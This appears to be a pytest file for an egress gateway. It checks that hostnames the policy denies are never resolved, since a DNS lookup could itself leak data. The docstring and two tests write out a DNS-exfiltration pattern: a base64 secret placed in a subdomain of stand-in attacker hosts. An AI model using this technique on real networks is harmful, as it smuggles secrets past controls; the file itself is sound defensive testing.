"""A name the policy denies whatever it resolves to is never looked up: the DNS query
itself would carry data out (`CONNECT <secret>.attacker.example:443`)."""

from __future__ import annotations

import socket

import httpx
import pytest

from egressguard.engine.normalize import IPAddress
from egressguard.gateway import Resolver
from tests.gateway.conftest import CLOSED_POLICY, LOOPBACK_POLICY

pytestmark = pytest.mark.timeout(30)

ALLOW_NAMES = """
restrict_outbound_network_access: Enabled
application_rule_collections:
  - name: apps
    rules:
      - {name: allowed, targets: ['*.allowed.test'], protocols: ['http:*', 'https:*']}
"""


class CountingResolver(Resolver):
    """The gateway's resolver (no system lookups here), recording every name asked."""

    def __init__(self) -> None:
        super().__init__({}, system=False)
        self.asked: list[str] = []

    async def resolve(self, name: str, port: int) -> tuple[IPAddress, ...]:
        self.asked.append(name)
        return await super().resolve(name, port)


def _connect(proxy_port: int, target: str) -> bytes:
    with socket.create_connection(("127.0.0.1", proxy_port), timeout=5) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        return sock.recv(4096)


def test_denied_connect_name_carrying_a_secret_is_never_looked_up(gateway_factory) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(CLOSED_POLICY, resolver=resolver)
    reply = _connect(gw.port, "c2VjcmV0.attacker.test:443")
    assert reply.startswith(b"HTTP/1.1 403") and b"X-Egressguard-Rule: default" in reply
    assert resolver.asked == []


def test_denied_http_name_is_never_looked_up(gateway_factory) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(CLOSED_POLICY, resolver=resolver)
    r = httpx.get("http://c2VjcmV0.attacker.test/x", proxy=gw.url)
    assert r.status_code == 403 and resolver.asked == []


def test_allowed_name_is_looked_up_before_it_is_decided_with_its_addresses(
        gateway_factory) -> None:
    resolver = CountingResolver()
    gw = gateway_factory(ALLOW_NAMES, resolver=resolver)
    reply = _connect(gw.port, "api.allowed.test:443")
    assert reply.startswith(b"HTTP/1.1 502")  # looked up, and not resolvable here
    assert resolver.asked == ["api.allowed.test"]


def test_names_are_looked_up_when_a_network_rule_could_allow_by_address(
        gateway_factory) -> None:
    # With an address-matching network rule, the verdict depends on the addresses, so
    # the name must be resolved to be decided.
    resolver = CountingResolver()
    gw = gateway_factory(LOOPBACK_POLICY, resolver=resolver)
    _connect(gw.port, "elsewhere.test:443")
    assert resolver.asked == ["elsewhere.test"]
